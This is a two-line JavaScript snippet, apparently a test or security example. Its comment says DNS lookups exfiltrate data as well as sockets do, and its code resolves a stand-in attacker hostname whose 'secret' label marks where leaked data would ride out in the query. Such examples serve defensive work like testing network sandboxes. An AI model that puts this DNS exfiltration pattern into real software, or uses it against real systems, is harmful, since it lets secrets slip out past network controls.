// DNS lookups exfiltrate data as well as sockets do.
require('dns').lookup('secret.attacker.example', () => {})
